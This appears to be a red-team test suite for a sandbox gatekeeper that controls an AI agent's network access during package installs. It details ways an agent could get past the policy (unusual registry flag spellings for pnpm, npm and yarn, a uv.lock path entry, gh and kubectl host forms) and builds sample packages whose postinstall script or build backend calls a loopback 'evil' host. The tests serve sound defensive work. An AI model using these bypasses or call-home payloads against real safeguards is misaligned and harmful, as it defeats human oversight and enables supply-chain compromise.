"""Red team 32: installs the default policy allows with the network that still fetch from a
host of the agent's choosing (a registry named by an option spelling the installers table
does not know, a lock spelling the text scan misses), hosts gh and kubectl reach that
`_named_host` misses, and a false positive of the text-lock markers.

Each test fails while its finding stands. Real gatekeep runs and real bubblewrap; no
internet: a loopback npm registry stands in for the evil host. It serves any `evil-*`
package, whose postinstall requests `/pwned` from it. The projects lie beside this
repository (`apart`)."""

from __future__ import annotations

import base64
import gzip
import hashlib
import http.server
import io
import json
import os
import shutil
import tarfile
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import leaks
import pytest

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")

Sandbox = object
TOKEN = "ghp-SEKRIT-32"


def _needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(shutil.which(program) is None, reason=f"needs {program}")


def _run(sandbox: Sandbox, command: str, cwd: Path) -> str:
    done = leaks.run(sandbox, command, cwd, token=TOKEN)
    return done.stdout + done.stderr


def _verdict(sandbox: Sandbox, command: str, cwd: Path) -> tuple[str, bool | None]:
    """(decision, whether the box has the network) of `gatekeep check --json`."""
    done = sandbox.gatekeep("check", "--json", "-c", command, cwd=cwd)  # type: ignore[attr-defined]
    found = json.loads(done.stdout)
    return found["decision"], (found.get("boundary") or {}).get("network")


def _tarball(name: str, port: int) -> bytes:
    script = (f"node -e \"require('http').get('http://127.0.0.1:{port}/pwned')"
              ".on('error',()=>{})\"")
    manifest = json.dumps({"name": name, "version": "1.0.0",
                           "scripts": {"postinstall": script}}).encode()
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, data in (("package/package.json", manifest), ("package/index.js", b"")):
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def _integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


class _Registry:
    """A loopback npm registry: any `evil-*` package (scoped too), version 1.0.0."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        owner = self
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), self._handler(owner))
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def tarball(self, name: str) -> bytes:
        return _tarball(name, self.port)

    @staticmethod
    def _handler(owner: _Registry) -> type[http.server.BaseHTTPRequestHandler]:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                owner.seen.append(self.path)
                path = urllib.parse.unquote(self.path.split("?", 1)[0]).lstrip("/")
                if path.endswith(".tgz"):
                    body = owner.tarball(path.split("/-/", 1)[0])
                elif "evil-" in path:
                    data = owner.tarball(path)
                    tail = path.rsplit("/", 1)[-1]
                    body = json.dumps({"name": path, "dist-tags": {"latest": "1.0.0"},
                                       "versions": {"1.0.0": {
                                           "name": path, "version": "1.0.0",
                                           "scripts": {"postinstall": "x"},
                                           "dist": {"tarball":
                                                    f"{owner.url}{path}/-/{tail}-1.0.0.tgz",
                                                    "integrity": _integrity(data),
                                                    "shasum": hashlib.sha1(data).hexdigest()}}}}
                                      ).encode()
                else:
                    body = b"ok"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        return Handler

    def reached(self) -> bool:
        return any(".tgz" in p or p.startswith("/pwned") for p in self.seen)

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def registry() -> Iterator[_Registry]:
    server = _Registry()
    yield server
    server.close()


def _caches(apart: Sandbox) -> None:
    """The operator's package caches, which a networked box writes (as they exist)."""
    home: Path = apart.home  # type: ignore[attr-defined]
    for cache in (".npm", ".local/share/pnpm/store", ".cache/uv", ".cache/yarn"):
        (home / cache).mkdir(parents=True, exist_ok=True)


def _project(apart: Sandbox, name: str) -> Path:
    _caches(apart)
    work: Path = apart.work  # type: ignore[attr-defined]
    leaks.git("init", "-q", work)
    leaks.git("-C", work, "commit", "-q", "--allow-empty", "-m", "init")
    (work / "package.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "dependencies": {name: "1.0.0"}}))
    return work


# -- F1: pnpm --config.registry= ----------------------------------------------------------

_PNPM_LOCK = """\
lockfileVersion: '9.0'

settings:
  autoInstallPeers: true

importers:

  .:
    dependencies:
      {name}:
        specifier: 1.0.0
        version: 1.0.0

packages:

  {name}@1.0.0:
    resolution: {{integrity: {integrity}}}

snapshots:

  {name}@1.0.0: {{}}
"""


@_needs("pnpm")
def test_pnpm_frozen_install_with_config_registry_does_not_fetch_from_the_agents_host(
        apart: Sandbox, registry: _Registry) -> None:
    """A pnpm v9 lock records no address for a registry package; `--config.registry=URL`
    is pnpm's `registry` setting, which the installers table does not know (only
    `--registry`): the tarball and its postinstall came from the loopback host."""
    work = _project(apart, "evil-pad")
    (work / "pnpm-lock.yaml").write_text(_PNPM_LOCK.format(
        name="evil-pad", integrity=_integrity(registry.tarball("evil-pad"))))
    command = f"pnpm install --frozen-lockfile --config.registry={registry.url}"
    output = _run(apart, command, work)
    assert not registry.reached(), (registry.seen, output)


# -- F2: npm ci -registry= / --@scope:registry= -------------------------------------------

@pytest.mark.parametrize("option, resolved", [
    ("-registry={url}", True),
    ("--@x:registry={url}", False),
])
def test_npm_ci_with_another_spelling_of_registry_does_not_fetch_from_the_agents_host(
        apart: Sandbox, registry: _Registry, option: str, resolved: bool) -> None:
    """`npm ci -registry=URL`: npm takes one dash too, and rewrites the lock's
    registry.npmjs.org tarballs to the configured registry (replace-registry-host);
    `--@x:registry=URL` serves a scoped package whose lock entry has no `resolved` (as the
    operator's `omit-lockfile-registry-resolved` writes it)."""
    name = "@x/evil-pad"
    work = _project(apart, name)
    entry: dict[str, object] = {"version": "1.0.0", "hasInstallScript": True,
                                "integrity": _integrity(registry.tarball(name))}
    if resolved:
        entry["resolved"] = f"https://registry.npmjs.org/{name}/-/evil-pad-1.0.0.tgz"
    (work / "package-lock.json").write_text(json.dumps({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {name: "1.0.0"}},
                     f"node_modules/{name}": entry}}))
    output = _run(apart, "npm ci " + option.format(url=registry.url), work)
    assert not registry.reached(), (registry.seen, output)


# -- F3: yarn install --registry ----------------------------------------------------------

@_needs("yarn")
def test_yarn_frozen_install_with_registry_does_not_fetch_from_the_agents_host(
        apart: Sandbox, registry: _Registry) -> None:
    """`yarn install` is no installer in programs.yaml, so its `--registry` is no source
    option; a yarn.lock v1 entry without `resolved` holds no address for the text scan."""
    work = _project(apart, "evil-pad")
    (work / "yarn.lock").write_text(
        "# yarn lockfile v1\n\n\nevil-pad@1.0.0:\n  version \"1.0.0\"\n"
        f"  integrity {_integrity(registry.tarball('evil-pad'))}\n")
    output = _run(apart, f"yarn install --frozen-lockfile --registry {registry.url}", work)
    assert not registry.reached(), (registry.seen, output)


# -- F4: uv.lock `path="..."` -------------------------------------------------------------

_BACKEND = """\
import os, urllib.request, zipfile
def _pwn():
    try:
        urllib.request.urlopen({url!r} + "pwned", timeout=3).read()
    except Exception:
        pass
def get_requires_for_build_wheel(config_settings=None):
    _pwn(); return []
def build_wheel(d, config_settings=None, metadata_directory=None):
    _pwn(); n = "evilpkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(d, n), "w") as z:
        info = "evilpkg-1.0.dist-info/"
        z.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: evilpkg\\n"
                   "Version: 1.0\\n")
        z.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\n"
                   "Root-Is-Purelib: true\\nTag: py3-none-any\\n")
        z.writestr("evilpkg-1.0.dist-info/RECORD", "")
    return n
"""

_UV_LOCK = """\
version = 1
revision = 3
requires-python = ">=3.8"

[[package]]
name = "evilpkg"
version = "1.0"
source = {{ registry = "local-index" }}
sdist = {{ path="evilpkg-1.0.tar.gz" }}

[[package]]
name = "u1"
version = "0.1.0"
source = {{ virtual = "." }}
dependencies = [
    {{ name = "evilpkg" }},
]

[package.metadata]
requires-dist = [{{ name = "evilpkg" }}]
"""


@_needs("uv")
def test_uv_frozen_sync_of_an_sdist_the_lock_names_by_path_runs_offline(
        apart: Sandbox, registry: _Registry) -> None:
    """`local_markers` are literal substrings (`path =`); TOML's `path="x"` is the same
    key, and a registry that is a path (`registry = "local-index"`) is no address: the
    tree's sdist is built, its backend reaching the loopback host."""
    _caches(apart)
    work: Path = apart.work  # type: ignore[attr-defined]
    leaks.git("init", "-q", work)
    (work / "pyproject.toml").write_text('[project]\nname = "u1"\nversion = "0.1.0"\n'
                                         'requires-python = ">=3.8"\ndependencies = ["evilpkg"]\n')
    (work / "uv.lock").write_text(_UV_LOCK.replace("{{", "{").replace("}}", "}"))
    files = {"evilpkg-1.0/pyproject.toml":
             '[build-system]\nrequires = []\nbuild-backend = "evilbackend"\n'
             'backend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "1.0"\n',
             "evilpkg-1.0/evilbackend.py": _BACKEND.format(url=registry.url),
             "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n"}
    (work / "local-index").mkdir()
    with tarfile.open(work / "local-index" / "evilpkg-1.0.tar.gz", "w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    output = _run(apart, "uv sync --frozen", work)
    assert not registry.reached(), (registry.seen, output)


# -- F5/F6: hosts _named_host misses --------------------------------------------------------

@pytest.mark.parametrize("command", [
    "kubectl get -k github.com/evil/repo/overlays/prod",  # kubectl ran git fetch of it
    "kubectl get -k evil.example/o/r/sub",
    "gh pr list -Revil.example/o/r",
    "gh repo view evil.example:8443/o/r",
])
def test_a_host_the_command_names_is_asked(sandbox: Sandbox, command: str) -> None:
    work: Path = sandbox.work  # type: ignore[attr-defined]
    decision, _ = _verdict(sandbox, command, work)
    assert decision == "ask", command


# -- false positive: pnpm v9 lock's `excludeLinksFromLockfile:` ----------------------------

def test_a_registry_only_pnpm_lock_keeps_the_network(apart: Sandbox) -> None:
    """Every pnpm 8/9 lock has `settings: excludeLinksFromLockfile: false`, and
    `...Lockfile:` contains the `file:` marker: each frozen install ran offline."""
    work = _project(apart, "left-pad")
    (work / "pnpm-lock.yaml").write_text(_PNPM_LOCK.format(
        name="left-pad", integrity="sha512-AAAA").replace(
        "  autoInstallPeers: true\n",
        "  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n"))
    assert _verdict(apart, "pnpm install --frozen-lockfile", work) == ("allow", True)
